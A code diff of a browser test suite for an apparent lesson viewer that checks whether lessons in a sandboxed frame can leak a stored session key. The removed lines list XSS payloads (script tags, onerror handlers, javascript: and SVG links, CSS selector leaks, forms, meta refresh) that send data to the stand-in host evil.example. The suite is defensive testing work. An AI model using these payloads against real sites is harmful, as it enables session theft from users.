@@ -1,83 +1,23 @@
-// Lessons that attack their reader. Each attack is first made on a page that shows lessons without the frame, where it gets
-// what it wants: no test passes because its attack is none.
+// Lessons that attack their reader. That no test passes because its attack is none, `npm run stress` sees to: it makes each on a
+// page that shows lessons without the frame, where it gets what it wants.
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
 import { join } from "node:path";
-import type { Frame, FrameLocator, Page } from "playwright-core";
+import type { Frame, FrameLocator } from "playwright-core";
 import { runCommand } from "../support/command.ts";
 import { openTestBrowser, type TestBrowser, type TestPage } from "../support/browser.ts";
 import { openLessonFrame, readExplorer, showLesson } from "../support/explorer.ts";
 import { createKey, startTestServer, waitFor, type TestServer } from "../support/server.ts";
 import { createTestFolder, engines, openTestStore, type Engine, type TestStore } from "../support/store.ts";
-
-const KEY = "lectern_secret";
-/** Where attackers want requests to come. No request arrives there, but each is recorded. */
-const EVIL = "http://evil.example";
-const STEAL = `fetch('${EVIL}/?'+sessionStorage.key)`;
-
-interface Attack {
-  name: string;
-  html: string;
-  /** What a reader clicks on. */
-  isClicked?: boolean;
-}
-
-const attacks: Attack[] = [
-  { name: "a script", html: `<script>${STEAL}</script>` },
-  { name: "an event handler", html: `<img src="data:," onerror="${STEAL}">` },
-  { name: "a javascript: link", html: `<a id="it" href="javascript:${STEAL};void 0">Next</a>`, isClicked: true },
-  { name: "a form", html: `<form action="${EVIL}/" method="post"><button id="it">Go</button></form>`, isClicked: true },
-  {
-    name: "a button with an address of its own",
-    html: `<form><button id="it" formaction="${EVIL}/">Go</button></form>`,
-    isClicked: true,
-  },
-  { name: "a refresh", html: `<meta http-equiv="refresh" content="0;url=${EVIL}/">` },
-  { name: "a frame with a document of its own", html: `<iframe srcdoc="<script>${STEAL}</script>"></iframe>` },
-  { name: "a script in a drawing", html: `<svg><script>${STEAL}</script></svg>` },
-  {
-    name: "a link in a drawing",
-    html: `<svg height="40" width="40"><a id="it" xlink:href="javascript:${STEAL};void 0"><rect height="40" width="40"/></a></svg>`,
-    isClicked: true,
-  },
-  {
-    name: "a link in a drawing that moves away from its address",
-    html: `<svg height="40" width="40"><a id="it" href="#x"><set attributeName="target" to="_self"/><set attributeName="href" to="${EVIL}/"/><rect height="40" width="40"/></a></svg>`,
-    isClicked: true,
-  },
-  {
-    name: "styles that read what stands outside",
-    html: `<style>#outside[value^="lectern_s"]{background:url(${EVIL}/?s)}</style>`,
-  },
-  {
-    name: "a form for the top",
-    html: `<form action="${EVIL}/" target="_top"><button id="it">Go</button></form>`,
-    isClicked: true,
-  },
-  { name: "another base", html: `<base href="${EVIL}/"><img src="a.png">` },
-  { name: "an object", html: `<object data="${EVIL}/a.html"></object>` },
-  { name: "a stylesheet", html: `<link rel="stylesheet" href="${EVIL}/a.css">` },
-  { name: "imported styles", html: `<style>@import url(${EVIL}/a.css);</style>` },
-];
+import { attacks, EVIL, KEY } from "./attacks-on-readers.ts";
 
 let browser: TestBrowser;
 let server: TestServer;
 let store: TestStore;
 let opened: TestPage;
 let lesson: FrameLocator;
-/** Shows a text as a site does that puts it into its page. */
-let careless: Bun.Server<undefined>;
 beforeAll(async () => {
   store = await openTestStore(engines[0] as Engine);
   server = await startTestServer(store.store, { pages: readExplorer() });
-  careless = Bun.serve({
-    hostname: "127.0.0.1",
-    port: 0,
-    fetch: (request) => {
-      const html = attacks[Number(new URL(request.url).pathname.slice(1))]?.html ?? "";
-      const text = `<!doctype html><script>sessionStorage.key = "${KEY}"</script><input id="outside" value="${KEY}">${html}`;
-      return new Response(text, { headers: { "content-type": "text/html; charset=utf-8" } });
-    },
-  });
   browser = await openTestBrowser();
   opened = await browser.openPage();
   await openLessonFrame(opened, server.url);
@@ -87,7 +27,7 @@ beforeAll(async () => {
 });
 afterAll(async () => {
   await browser.close();
-  await Promise.all([server.stop(), careless.stop(true)]);
+  await server.stop();
   await store.drop();
 });
 beforeEach(() => {
@@ -111,31 +51,10 @@ async function expectUnharmed({ inPlace = false } = {}): Promise<void> {
   await waitFor(() => opened.outsideRequests.length === 0);
 }
 
-const click = async (page: Page | FrameLocator): Promise<void> => page.locator("#it").click({ noWaitAfter: true });
+const click = async (): Promise<void> => lesson.locator("#it").click({ noWaitAfter: true });
 
 describe("an attack on readers", () => {
-  test("works where a lesson stands in the page", async () => {
-    const victim = await browser.openPage();
-    const { page } = victim;
-    for (const [index, { name, isClicked }] of attacks.entries()) {
-      // The attack before may still be at it, and lead elsewhere first.
-      await waitFor(() =>
-        page.goto("about:blank").then(
-          () => true,
-          () => false,
-        ),
-      );
-      victim.outsideRequests.length = 0;
-      await page.goto(`http://127.0.0.1:${careless.port}/${index}`, { waitUntil: "commit" });
-      if (isClicked) await click(page);
-      await waitFor(() => victim.outsideRequests.length > 0).catch(() => {
-        throw new Error(`${name} does nothing`);
-      });
-    }
-    await victim.close();
-  });
-
-  for (const { name, html, isClicked } of attacks) {
+  for (const { name, html, isClicked = false, leaves = false } of attacks) {
     test(`gets nothing by ${name}`, async () => {
       await showLesson(opened, { additionalText: html, quizHtml: html }, { inPlace: true });
       if (isClicked) await lesson.locator("#it").first().click();
@@ -145,8 +64,9 @@ describe("an attack on readers", () => {
     test(`gets nothing by ${name}, even if it came into the frame as it is`, async () => {
       await showLesson(opened, { additionalText: "<p>" }, { inPlace: true });
       await findLessonFrame().evaluate(`document.querySelector("p").innerHTML = ${JSON.stringify(html)}`);
-      if (isClicked) await click(lesson);
-      await expectUnharmed();
+      if (isClicked) await click();
+      // What leads elsewhere may have taken the frame there.
+      await expectUnharmed({ inPlace: !isClicked && !leaves });
     });
   }
 
@@ -189,7 +109,7 @@ test("attacks that an import lets through get nothing in the explorer", async ()
 
 test("a link for the top opens beside the page, which it does not know", async () => {
   await showLesson(opened, { additionalText: `<a id="it" target="_top" href="${server.url}/docs">Next</a>` });
-  const [tab] = await Promise.all([opened.context.waitForEvent("page"), click(lesson)]);
+  const [tab] = await Promise.all([opened.context.waitForEvent("page"), click()]);
   expect(await tab.evaluate("opener")).toBeNull();
   await tab.close();
   await expectUnharmed();
@@ -205,7 +125,7 @@ test("where a link in a drawing leads is not animated", async () => {
 test("a link to data opens nothing", async () => {
   const link = '<a id="it" href="data:text/html,<h1>Key?</h1>" target="_blank">Next</a>';
   await showLesson(opened, { additionalText: link });
-  await click(lesson);
+  await click();
   await expectUnharmed();
 });
 
